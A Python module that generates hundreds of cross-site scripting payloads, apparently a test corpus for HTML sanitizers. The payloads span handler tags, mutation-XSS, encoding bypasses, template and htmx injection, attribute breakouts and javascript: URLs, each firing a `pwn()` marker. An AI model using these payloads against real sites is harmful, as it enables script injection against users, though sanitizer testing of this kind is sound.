"""Hundreds of texts that call `pwn()` when a page runs them: tags, handlers, addresses and ways to break out."""

from __future__ import annotations

from collections.abc import Iterator

HANDLERS = {
    "img": ("src=x", "error"),
    "image": ("src=x", "error"),
    "svg": ("", "load"),
    "body": ("", "load"),
    "input": ("autofocus", "focus"),
    "select": ("autofocus", "focus"),
    "textarea": ("autofocus", "focus"),
    "button": ("autofocus", "focus"),
    "details": ("open", "toggle"),
    "video": ("src=x", "error"),
    "audio": ("src=x", "error"),
    "iframe": ("src=about:blank", "load"),
    "object": ("data=x", "error"),
    "embed": ("src=about:blank", "load"),
    "link": ("rel=stylesheet href=data:,", "load"),
    "style": ("", "load"),
    "marquee": ("", "start"),
    "script": ("src=data:,", "load"),
    "div": ("tabindex=0 style=animation-name:x", "animationstart"),
    "a": ("href=# autofocus", "focus"),
}
"""A tag, what it needs, and the event that fires without anybody touching it."""

SPELLINGS = (
    "<{tag} {needs} on{event}=pwn()>",
    '<{tag} {needs} on{event}="pwn()">x</{tag}>',
    "<{tag}/{needs}/on{event}=pwn()>",
    "<{upper} {needs} ON{event}=pwn()//",
    "<{tag}\t{needs}\non{event}\x0c=\npwn()>",
    "<<{tag} {needs} on{event}=pwn()>",
    "<{tag} {needs} on{event}=&#112;wn()>",
)

SCRIPTS = (
    "<script>pwn()</script>",
    "<SCRIPT>pwn()</SCRIPT>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<script/x>pwn()</script\t\n bar>",
    "<script src=data:text/javascript,pwn()></script>",
    "<script type=module>pwn()</script>",
    "<script>/*\n*/pwn()//</script >",
    "<svg><script>pwn()</script></svg>",
    "<svg><script href=data:,pwn() /></svg>",
    "<math><script>pwn()</script></math>",
    "<template><script>pwn()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe srcdoc=&lt;img&#32;src=x&#32;onerror=parent.pwn()&gt;></iframe>",
    "<iframe src=javascript:parent.pwn()></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=></object>",
    "<embed src=javascript:pwn()>",
    "<form action=javascript:pwn()><input type=submit autofocus onfocus=form.submit()></form>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>",
    "<svg><set onbegin=pwn() attributename=x></svg>",
    "<svg><a xlink:href=javascript:pwn()><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><a href='javascript:pwn()'/></svg>#x\">",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwn()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwn()>'>",
    "<xmp><p title='</xmp><img src=x onerror=pwn()>'>",
    "<!--><img src=x onerror=pwn()>-->",
    "<!--<img src='--><img src=x onerror=pwn()//'>",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>pwn()</script>",
    "<base href=javascript:/a/-pwn()//><a href=.>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<link rel=import href=data:text/html,<script>pwn()</script>>",
    "<style>@import 'javascript:pwn()';</style>",
    "<style>*{background:url(javascript:pwn())}</style>",
    "<p style=x:expression(pwn())>",
    "\x00<script\x00>pwn()</script>",
    "＜script＞pwn()＜/script＞",
    "%3Cscript%3Epwn()%3C/script%3E",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=pwn()&amp;gt;",
    "\\u003cimg src=x onerror=pwn()\\u003e",
    "\\x3cscript\\x3epwn()\\x3c/script\\x3e",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    "${pwn()}",
    "{{constructor.constructor('pwn()')()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}<img src=x onerror=pwn()>",
    "{% raw %}<script>pwn()</script>{% endraw %}",
    "<div hx-on::load=pwn() hx-trigger=load>",
    "<div hx-on:htmx:load='pwn()'>",
    "<div data-hx-on--load='pwn()' data-hx-get='/' data-hx-trigger='load'>",
    "<div hx-get='/' hx-trigger='load[pwn()]'>",
    "<div hx-get=/ hx-trigger=load hx-vals='js:{a:pwn()}'>",
    "<div hx-get=/ hx-trigger=load hx-headers='javascript:{a:pwn()}'>",
    '</span>\n\nevent: turn\ndata: {"html": "<img src=x onerror=pwn()>"}\n\n',
    "\r\n\r\n<script>pwn()</script>",
    "</script><script>pwn()</script>",
    '"}]}</script><img src=x onerror=pwn()>',
    "\u2028</script><img src=x onerror=pwn()>",
)

BREAKOUTS = (
    '"',
    "'",
    '">',
    "'>",
    '"/>',
    "-->",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</style>",
    "`>",
    "]]>",
)
BEHIND = (
    "<img src=x onerror=pwn()>",
    " onfocus=pwn() autofocus tabindex=0 x=",
    " onanimationstart=pwn() style=animation-name:x x=",
    "<svg/onload=pwn()>",
    "<script>pwn()</script>",
    " href=javascript:pwn() x=",
)

ADDRESSES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    " javascript:pwn()",
    "\x01javascript:pwn()",
    "java\tscript:pwn()",
    "java\nscript:pwn()",
    "javascript\n:pwn()",
    "javascript&colon;pwn()",
    "&#106;avascript:pwn()",
    "javascript://voorbeeld.nl/%0apwn()",
    "javascript:https://voorbeeld.nl/;pwn()",
    "vbscript:pwn()",
    "data:text/html,<script>parent.pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=",
    "//x:pwn()@javascript:pwn()",
    'https://voorbeeld.nl/" onfocus=pwn() autofocus x="',
    "https://voorbeeld.nl/'><img src=x onerror=pwn()>",
    "tel:0'onfocus='pwn()' autofocus='",
    "feed:javascript:pwn()",
    "blob:javascript:pwn()",
)
MARKDOWN = (
    "[klik]({address})",
    "[klik](<{address}>)",
    "![x]({address})",
    "<{address}>",
    "[klik][1]\n\n[1]: {address}",
    '[![x]({address})]({address} "x" )',
)


def payloads() -> tuple[str, ...]:
    """All of them, each once."""
    return tuple(dict.fromkeys(all_payloads()))


def all_payloads() -> Iterator[str]:
    yield from SCRIPTS
    for tag, (needs, event) in HANDLERS.items():
        for spelling in SPELLINGS:
            yield spelling.format(tag=tag, upper=tag.upper(), needs=needs, event=event)
    yield from (breakout + behind for breakout in BREAKOUTS for behind in BEHIND)
    yield from ADDRESSES
    yield from (template.format(address=address) for template in MARKDOWN for address in ADDRESSES)


def packed(most: int) -> list[str]:
    """All payloads, as many together as fit in this many characters."""
    texts = [""]
    for payload in payloads():
        if len(texts[-1]) + len(payload) + 1 > most:
            texts.append("")
        texts[-1] += payload + " "
    return [text.strip() for text in texts if text.strip()]
